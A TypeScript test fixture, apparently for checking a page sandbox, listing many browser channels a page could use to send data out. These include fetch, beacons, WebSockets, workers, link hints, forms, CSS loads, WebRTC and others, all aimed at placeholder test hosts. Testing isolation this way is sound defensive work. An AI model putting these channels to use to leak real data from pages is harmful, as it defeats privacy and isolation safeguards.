/**
 * The ways out that a page has that wants to send something, by name. Each runs in the page itself, ends at once, and leaves its work under way. `HOSTS` are names
 * and addresses that only the wire of the test knows: one to look up, one to ask the neighbours for, and two that need no look-up.
 */
export const HOSTS = ['secret.example.org', 'secret.local', '10.9.0.7', '[fd00:9::7]', 'localhost.', '127.0.0.1:7']

/** The work of one name, for one host. */
export const HOSTILE: Record<string, (host: string) => unknown> = {
  fetch: (host) => {
    for (const mode of ['no-cors', 'cors'] as const)
      for (const scheme of ['http', 'https'])
        void fetch(`${scheme}://${host}/x`, { mode, keepalive: true }).catch(() => 0)
  },
  request: (host) => {
    const request = new XMLHttpRequest()
    request.open('GET', `http://${host}/x`)
    request.send()
  },
  beacon: (host) => navigator.sendBeacon(`http://${host}/x`, 'x'),
  sockets: (host) => {
    for (const scheme of ['ws', 'wss']) {
      const opened = new WebSocket(`${scheme}://${host}/x`)
      opened.addEventListener('open', () => opened.send('x'))
    }
  },
  events: (host) => new EventSource(`http://${host}/x`),
  transport: (host) => {
    const Transport = (
      window as unknown as { WebTransport?: new (url: string) => { closed: Promise<unknown>; ready: Promise<unknown> } }
    ).WebTransport
    if (!Transport) return
    const transport = new Transport(`https://${host.replace(/:7$/, '')}:4433/x`)
    transport.closed.catch(() => 0)
    transport.ready.catch(() => 0)
  },
  elements: (host) => {
    const at = `http://${host}/x`
    const make = (name: string, attributes: Record<string, string>) => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
    }
    make('img', { src: at, srcset: `${at} 2x` })
    make('script', { src: at })
    make('script', { src: at, type: 'module' })
    make('iframe', { src: at })
    make('iframe', {
      srcdoc: `<meta http-equiv="refresh" content="0;url=${at}"><img src="${at}"><script src="${at}"></script>`,
    })
    make('iframe', { src: `data:text/html,<img src="${at}"><meta http-equiv="refresh" content="0;url=${at}">` })
    make('fencedframe', { src: at })
    make('object', { data: at })
    make('embed', { src: at })
    make('video', { src: at, poster: at, autoplay: '' })
    make('audio', { src: at, autoplay: '' })
    make('track', { src: at })
    make('input', { type: 'image', src: at })
    make('portal', { src: at })
    make('webview', { src: at })
    make('body', { background: at })
    make('svg', {})
  },
  hints: (host) => {
    const rels =
      'dns-prefetch preconnect prefetch prerender preload modulepreload stylesheet icon manifest search next pingback'
    for (const rel of rels.split(' '))
      for (const at of [`http://${host}/x`, `https://${host}/x`, `//${host}/x`]) {
        const link = document.createElement('link')
        link.rel = rel
        link.href = at
        if (rel === 'preload') link.as = 'image'
        document.head.append(link)
      }
    const meta = document.createElement('meta')
    meta.httpEquiv = 'x-dns-prefetch-control'
    meta.content = 'on'
    document.head.append(meta)
    const anchor = document.createElement('a')
    anchor.href = `http://${host}/y`
    anchor.textContent = 'x'
    document.body.append(anchor)
    const refresh = document.createElement('meta')
    refresh.httpEquiv = 'refresh'
    refresh.content = `0;url=http://${host}/x`
    document.head.append(refresh)
  },
  speculation: (host) => {
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    const urls = [`https://${host}/x`, `http://${host}/x`]
    rules.textContent = JSON.stringify({
      prefetch: [
        { source: 'list', urls, eagerness: 'immediate', requires: ['anonymous-client-ip-when-cross-origin'] },
        { source: 'list', urls, eagerness: 'immediate' },
      ],
      prerender: [{ source: 'list', urls, eagerness: 'immediate' }],
    })
    document.head.append(rules)
  },
  pings: (host) => {
    const anchor = document.createElement('a')
    anchor.href = '#x'
    anchor.ping = `http://${host}/x`
    anchor.setAttribute('attributionsrc', `https://${host}/x`)
    document.body.append(anchor)
    anchor.click()
    const download = document.createElement('a')
    download.href = `http://${host}/x`
    download.download = 'x'
    document.body.append(download)
    download.click()
    for (const target of ['_blank', '_self', '_top']) {
      const form = document.createElement('form')
      form.action = `http://${host}/x`
      form.method = 'post'
      form.target = target
      document.body.append(form)
      form.submit()
    }
  },
  styles: (host) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(
      `@font-face{font-family:leak;src:url(http://${host}/x.woff2)} .leak{font-family:leak;background:url(http://${host}/x);cursor:url(http://${host}/x),auto;list-style-image:url(//${host}/x)}`,
    )
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    const leak = document.createElement('p')
    leak.className = 'leak'
    leak.textContent = 'leak'
    document.body.append(leak)
    void new FontFace('leak2', `url(http://${host}/x.woff2)`).load().catch(() => 0)
    leak.style.backgroundImage = `url(http://${host}/z)`
  },
  workers: (host) => {
    const code = `try{importScripts('http://${host}/x')}catch{};fetch('http://${host}/x').catch(()=>0);new WebSocket('ws://${host}/x')`
    for (const at of [
      URL.createObjectURL(new Blob([code])),
      `data:text/javascript,${encodeURIComponent(code)}`,
      `http://${host}/x.js`,
    ])
      for (const kind of [Worker, SharedWorker])
        try {
          const begun: Worker | SharedWorker = new kind(at)
          begun.addEventListener('error', () => undefined)
        } catch {
          // Refused.
        }
    void navigator.serviceWorker?.register(`http://${host}/x.js`).catch(() => 0)
  },
  windows: (host) => {
    window.open(`http://${host}/x`)
    window.open(`http://${host}/x`, '_blank', 'noopener')
    location.href = `http://${host}/x`
  },
  reports: (host) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'content-security-policy'
    meta.content = `img-src 'none'; report-uri http://${host}/x; report-to x`
    document.head.append(meta)
    const image = new Image()
    image.src = 'app://parley/icon.png'
  },
  push: (host) => {
    void Notification.requestPermission().then(() => new Notification('x', { icon: `http://${host}/x` }))
    if ('mediaSession' in navigator)
      navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: `http://${host}/x` }] })
    type Asks = Record<string, ((given: unknown) => Promise<unknown>) | undefined>
    const credentials = navigator.credentials as unknown as Asks
    void credentials
      ?.get?.({ identity: { providers: [{ configURL: `https://${host}/x`, clientId: 'x' }] } })
      .catch(() => 0)
    void credentials?.get?.({ publicKey: { challenge: new Uint8Array(16), rpId: host } }).catch(() => 0)
    navigator.geolocation.getCurrentPosition(() => 0)
    const Presentation = (
      window as unknown as {
        PresentationRequest?: new (urls: string[]) => { start(): Promise<unknown>; getAvailability(): Promise<unknown> }
      }
    ).PresentationRequest
    if (Presentation) {
      const request = new Presentation([`https://${host}/x`, 'cast:233637DE'])
      void request.getAvailability().catch(() => 0)
      void request.start().catch(() => 0)
    }
    void navigator
      .requestMediaKeySystemAccess?.('com.widevine.alpha', [
        { initDataTypes: ['cenc'], videoCapabilities: [{ contentType: 'video/mp4; codecs="avc1.42E01E"' }] },
      ])
      .catch(() => 0)
  },
  payments: (host) => {
    const Payment = (
      window as unknown as {
        PaymentRequest?: new (
          methods: object[],
          details: object,
        ) => { show(): Promise<unknown>; canMakePayment(): Promise<unknown> }
      }
    ).PaymentRequest
    if (!Payment) return
    try {
      const payment = new Payment([{ supportedMethods: `https://${host}/x` }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      })
      void payment.canMakePayment().catch(() => 0)
      void payment.show().catch(() => 0)
    } catch {
      // Refused.
    }
  },
  spelling: () => {
    const area = document.createElement('textarea')
    area.spellcheck = true
    area.lang = 'fr'
    area.value = 'thiss iss mispeled'
    document.body.append(area)
    area.focus()
    type Speech = { start(): void; lang: string }
    const Recognition = (window as unknown as { webkitSpeechRecognition?: new () => Speech }).webkitSpeechRecognition
    if (Recognition) new Recognition().start()
    speechSynthesis.speak(new SpeechSynthesisUtterance('x'))
    void (window as unknown as { Translator?: { create(of: object): Promise<unknown> } }).Translator?.create({
      sourceLanguage: 'en',
      targetLanguage: 'ja',
    }).catch(() => 0)
  },
  calls: async (host) => {
    const name = host.replace(/:7$/, '').replaceAll(/[[\]]/g, '')
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const kinds = [window, frame.contentWindow as unknown as typeof window].flatMap(
      (one) => one?.RTCPeerConnection ?? [],
    )
    for (const Call of kinds) {
      const at = name.includes(':') ? `[${name}]` : name
      const urls = [
        `stun:${at}:3478`,
        `turn:${at}:3478?transport=udp`,
        `turn:${at}:3478?transport=tcp`,
        `turns:${at}:5349?transport=tcp`,
      ]
      const call = new Call({
        iceServers: urls.map((url) => ({ urls: url, username: 'x', credential: 'x' })),
        iceCandidatePoolSize: 2,
      })
      call.createDataChannel('x')
      const other = new Call()
      const offer = await call.createOffer()
      await call.setLocalDescription(offer)
      await other.setRemoteDescription(offer)
      const answer = await other.createAnswer()
      await other.setLocalDescription(answer)
      await call.setRemoteDescription(answer)
      const lines = [
        `candidate:1 1 udp 2113937151 ${name} 54400 typ host`,
        `candidate:2 1 tcp 1518280447 ${name} 80 typ host tcptype passive`,
        `candidate:3 1 udp 2113937151 ab12cd34-0000-4000-8000-123456789abc.local 54400 typ host`,
      ]
      for (const one of [call, other])
        for (const candidate of lines)
          await one.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 }).catch(() => 0)
    }
  },
}
